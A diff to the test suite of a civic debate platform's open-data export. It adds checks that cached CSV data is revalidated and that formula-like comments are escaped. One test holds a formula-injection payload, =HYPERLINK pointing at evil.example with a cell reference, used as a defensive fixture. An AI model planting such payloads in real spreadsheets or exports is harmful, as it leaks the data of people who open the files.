@@ -82,7 +82,9 @@ def test_meeting_reports_carry_counts_and_poll_results(world):
 
 def test_a_dataset_is_cached_until_something_changes(world, alice):
     response, _body = get("/opendata/comments.csv")
-    assert "public" in response["Cache-Control"] and "max-age" in response["Cache-Control"]
+    # Kept by browsers and proxies, but asked again each time: what moderation hides is never served from their copy.
+    assert "public" in response["Cache-Control"] and "no-cache" in response["Cache-Control"]
+    assert "max-age" not in response["Cache-Control"]
 
     again = Client().get("/opendata/comments.csv", HTTP_IF_NONE_MATCH=response["ETag"])
     assert again.status_code == 304
@@ -404,3 +406,16 @@ def test_nothing_in_a_row_tells_apart_two_people_who_left_their_name_out(world, 
     assert {row["author"] for row in rows} == {""}
     debate_row = json.loads(get("/opendata/debates.json")[1])["items"][0]
     assert "author_id" not in debate_row and "user_id" not in debate_row
+
+
+def test_a_comment_a_spreadsheet_would_run_as_a_formula_is_published_as_text_in_the_csv(world, alice):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
+    debates.post_comment(author=alice, debate=world["debate"], body=formula)
+    debates.post_comment(author=alice, debate=world["debate"], body="+33 1 23 45 67 89 pour en parler")
+
+    _response, body = get("/opendata/comments.csv")
+    texts = [row["text"] for row in csv.DictReader(io.StringIO(body))]
+    assert "'" + formula in texts and "'+33 1 23 45 67 89 pour en parler" in texts
+    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
+    _response, body = get("/opendata/comments.json")
+    assert formula in [item["text"] for item in json.loads(body)["items"]]  # JSON: the text as written
